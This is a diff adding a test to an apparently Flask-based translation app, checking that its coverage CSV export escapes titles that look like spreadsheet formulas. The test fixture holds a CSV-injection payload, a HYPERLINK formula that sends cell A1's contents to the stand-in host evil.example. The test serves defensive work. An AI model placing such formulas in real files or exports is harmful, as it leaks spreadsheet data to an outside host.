@@ -315,3 +315,15 @@ def test_staff_request_form_refuses_an_empty_choice(app: Flask, catalogue, make_
     translator = app.test_client()
     sign_in(translator, make_user("translator", languages=("fr",)))
     assert translator.get(f"/translations/request/{document_id}").status_code == 403
+
+
+def test_the_coverage_csv_keeps_a_title_that_looks_like_a_formula_as_text(
+    app: Flask, import_rows, make_user
+) -> None:
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+    assert import_rows([dict(ref="+FORMULA", title=title, content="Cooperatives.")]).failed == 0
+    client = app.test_client()
+    sign_in(client, make_user("staff"))
+    rows = list(csv.reader(io.StringIO(client.get("/translations/coverage.csv").get_data(as_text=True))))
+    [row] = [r for r in rows if r[0].endswith("+FORMULA")]
+    assert row[:2] == ["'+FORMULA", "'" + title]
